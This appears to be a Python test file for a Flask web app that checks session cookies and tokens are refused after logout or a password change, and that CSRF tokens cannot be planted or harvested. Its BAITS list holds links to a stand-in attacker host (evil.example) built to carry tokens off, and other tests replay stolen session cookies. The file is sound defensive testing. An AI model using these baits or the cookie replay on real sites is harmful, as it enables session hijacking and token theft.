"""A member's session, checkout and CSRF token, attacked (issue 13, items 6 to 8): cookies and
tokens (refresh tokens too) replayed after a log-out or password change, on this worker and
another; a planted pre-login CSRF token; cross-site links that would start a checkout; copy that
would carry members' CSRF tokens off."""

from __future__ import annotations

import copy
import json
import re
import time
from collections.abc import Callable

from flask import Flask
from flask.testing import FlaskClient

from tests.billing_helpers import start_checkout
from tests.conftest import AuthActions, create_user, csrf_token, sql
from webapp.auth import sessions
from webapp.catalog import CYCLES, get_catalog
from webapp.extensions import db
from webapp.models import CopyRevision, User
from webapp.page_cache import CSRF_PLACEHOLDER

PASSWORD = "correct horse battery"
SESSIONS = "sessions and tokens after logout"
CROSS_SITE_GET = "checkouts started by a cross-site GET"
HARVEST = "CSRF tokens harvested through copy"


def replay(client: FlaskClient, app: Flask) -> FlaskClient:
    """A browser of the attacker's holding the session cookie `client` has now."""
    thief = app.test_client()
    thief.set_cookie("session", client.get_cookie("session").value)
    return thief


def opens_account(client: FlaskClient) -> bool:
    return client.get("/account").status_code == 200


def eventually_refused(attempt: Callable[[], bool], seconds: float = 3.0) -> bool:
    """False once `attempt()` stops working; PostgreSQL's notification takes a few ms."""
    deadline = time.monotonic() + seconds
    while attempt() and time.monotonic() < deadline:
        time.sleep(0.02)
    return not attempt()


def token_for(client: FlaskClient) -> str:
    response = client.post(
        "/api/v1/auth/token", json={"email": "ada@example.com", "password": PASSWORD}
    )
    return response.get_json()["accessToken"]


def api_works(client: FlaskClient, token: str) -> bool:
    response = client.get("/api/v1/credits/balance", headers={"Authorization": f"Bearer {token}"})
    return response.status_code == 200


# --- Sessions and tokens after logout ---------------------------------------------------------


def test_cookies_and_tokens_saved_before_a_logout_are_refused_everywhere(
    app, other_worker, figures
):
    create_user(app)
    victim = app.test_client()
    AuthActions(app, victim).login()
    here, there = replay(victim, app), replay(victim, other_worker)
    assert opens_account(here) and opens_account(there)  # both workers cache the user row
    token = token_for(victim)
    assert api_works(victim, token)
    assert AuthActions(app, victim).logout().status_code == 303
    assert figures.attack(SESSIONS, refused=not opens_account(here))
    assert figures.attack(SESSIONS, refused=eventually_refused(lambda: opens_account(there)))
    assert figures.attack(SESSIONS, refused=not api_works(here, token))
    assert figures.attack(SESSIONS, refused=not api_works(there, token))


def test_cookies_and_tokens_from_before_a_password_change_are_refused(app, other_worker, figures):
    user_id = create_user(app)
    victim = app.test_client()
    AuthActions(app, victim).login()
    stolen = [replay(victim, app), replay(victim, other_worker)]
    assert all(opens_account(client) for client in stolen)
    token = token_for(victim)
    with app.test_request_context():
        sessions.change_password(db.session.get(User, user_id), "an entirely new passphrase")
    for client in stolen:
        assert figures.attack(
            SESSIONS, refused=eventually_refused(lambda c=client: opens_account(c))
        )
        assert figures.attack(SESSIONS, refused=not api_works(client, token))


def _api_login(client: FlaskClient) -> dict[str, str]:
    response = client.post(
        "/api/v1/auth/login", json={"email": "ada@example.com", "password": PASSWORD}
    )
    return response.get_json()["tokens"]


def refresh_works(client: FlaskClient, refresh_token: str) -> bool:
    response = client.post("/api/v1/auth/refresh", json={"refreshToken": refresh_token})
    assert response.status_code in (200, 401), response.get_json()
    return response.status_code == 200


def test_refresh_tokens_saved_before_a_logout_are_refused_everywhere(app, other_worker, figures):
    """An API log-out ends its log-in's refresh and access tokens on every worker; the site's
    "Log out" ends every log-in's."""
    create_user(app)
    here, there = app.test_client(), other_worker.test_client()
    stolen = _api_login(here)
    current = here.post(
        "/api/v1/auth/refresh", json={"refreshToken": stolen["refreshToken"]}
    ).get_json()["tokens"]
    logout = here.post("/api/v1/auth/logout", json={"refreshToken": current["refreshToken"]})
    assert logout.status_code == 200
    for client in (here, there):
        for token in (stolen, current):
            assert figures.attack(
                SESSIONS, refused=not refresh_works(client, token["refreshToken"])
            )
            assert figures.attack(SESSIONS, refused=not api_works(client, token["accessToken"]))

    device = _api_login(there)
    victim = app.test_client()
    AuthActions(app, victim).login()
    assert AuthActions(app, victim).logout().status_code == 303
    assert figures.attack(SESSIONS, refused=not refresh_works(there, device["refreshToken"]))
    assert figures.attack(SESSIONS, refused=not api_works(there, device["accessToken"]))


def test_a_planted_pre_login_csrf_token_is_refused_after_login(app, figures):
    create_user(app)
    victim = app.test_client()
    planted = csrf_token(victim, "/login")  # fixed in the victim's browser before they log in
    response = victim.post(
        "/login", data={"email": "ada@example.com", "password": PASSWORD, "csrf_token": planted}
    )
    assert response.status_code == 303
    for path in ("/logout", "/billing/portal", "/account/api-keys"):
        response = victim.post(path, data={"csrf_token": planted, "name": "planted"})
        assert figures.attack(SESSIONS, refused=response.status_code == 400)
    assert opens_account(victim)
    assert sql(app, "select count(*) from api_keys") == [(0,)]


# --- Checkouts started by a cross-site GET ------------------------------------------------------

CROSS_SITE = {"Referer": "https://evil.example/", "Sec-Fetch-Site": "cross-site"}


def test_cross_site_links_naming_a_plan_never_start_or_expire_a_checkout(app, figures):
    create_user(app)
    member = app.test_client()
    AuthActions(app, member).login()
    assert start_checkout(member, "starter", "monthly").status_code == 303
    before = sql(app, "select stripe_session_id, status from checkout_sessions")
    with app.app_context():
        plans = list(get_catalog().plans)
    for page in ("/signup", "/login"):
        for plan in plans:
            for cycle in CYCLES:
                for method in ("GET", "HEAD"):
                    url = f"{page}?plan={plan}&cycle={cycle}&next=/account"
                    response = member.open(url, method=method, headers=CROSS_SITE)
                    unchanged = sql(app, "select stripe_session_id, status from checkout_sessions")
                    refused = response.status_code < 300 and unchanged == before
                    assert figures.attack(CROSS_SITE_GET, refused=refused), (url, method)
    # The member can still go on, with a POST of their own.
    assert start_checkout(member, "agency", "yearly").status_code == 303


# --- CSRF tokens harvested through copy ---------------------------------------------------------

TEXT_PATHS = [
    ("page", "headline"),
    ("page", "subheadline"),
    ("plans", "professional", "name"),
    ("plans", "professional", "tagline"),
    ("plans", "professional", "description"),
    ("plans", "professional", "badge"),
    ("plans", "professional", "cta_label"),
]
BAITS = [
    f"[Claim 50% off](https://evil.example/?t={CSRF_PLACEHOLDER})",
    f"Offer {CSRF_PLACEHOLDER.upper()}",
    f"https://evil.example/{CSRF_PLACEHOLDER}",
]


def default_copy(app: Flask) -> dict:
    with app.app_context():
        return copy.deepcopy(get_catalog().default_copy())


def set_path(document: dict, path: tuple[str, ...], value: str) -> None:
    node = document
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value


def test_copy_holding_the_placeholder_is_refused_by_the_editor_and_the_import(
    app, figures, tmp_path
):
    create_user(app, email="mia@example.com", role="marketing")
    editor = app.test_client()
    AuthActions(app, editor).login(email="mia@example.com")
    for path in TEXT_PATHS:
        for bait in BAITS:
            document = default_copy(app)
            set_path(document, path, bait)
            data = {
                "headline": document["page"]["headline"],
                "subheadline": document["page"]["subheadline"],
                "publish": "1",
                "csrf_token": csrf_token(editor, "/admin/plans"),
            }
            for plan_id, plan in document["plans"].items():
                for key, value in plan.items():
                    if key == "features":
                        data[f"{plan_id}-features"] = "\n".join(value)
                    elif key != "highlighted" or value:
                        data[f"{plan_id}-{key}"] = "y" if key == "highlighted" else str(value)
            response = editor.post("/admin/plans", data=data)
            refused = response.status_code == 400 and "Cannot contain" in response.text
            assert figures.attack(HARVEST, refused=refused), (path, bait)
            target = tmp_path / "copy.json"
            target.write_text(json.dumps(document))
            result = app.test_cli_runner().invoke(args=["copy", "import", str(target)])
            assert figures.attack(HARVEST, refused=result.exit_code != 0), (path, bait)
    assert sql(app, "select max(number) from copy_revisions") == [(1,)]


def test_copy_that_holds_the_placeholder_anyway_never_receives_a_members_token(app, figures):
    # Copy published before the rule existed, or written straight into the database.
    document = default_copy(app)
    for path, bait in zip(TEXT_PATHS, BAITS * 3, strict=False):
        set_path(document, path, bait)
    with app.app_context():
        db.session.add(
            CopyRevision(number=2, document=document, author_label="old", summary="-", changes=[])
        )
        db.session.commit()
    create_user(app)
    create_user(app, email="mia@example.com", role="marketing")
    for email in ("ada@example.com", "mia@example.com"):
        member = app.test_client()
        AuthActions(app, member).login(email=email)
        for page in ("/pricing", "/pricing?cycle=yearly", "/account"):
            for _ in range(2):  # rendered, then from the cache
                html = member.get(page).text
                token = csrf_token(member, page)
                outside = re.sub(r'<input\b[^<>]*\bname="csrf_token"[^<>]*>', "", html)
                assert figures.attack(HARVEST, refused=token not in outside), (email, page)
        # The forms still carry the member's own working token.
        assert member.post("/logout", data={"csrf_token": token}).status_code == 303
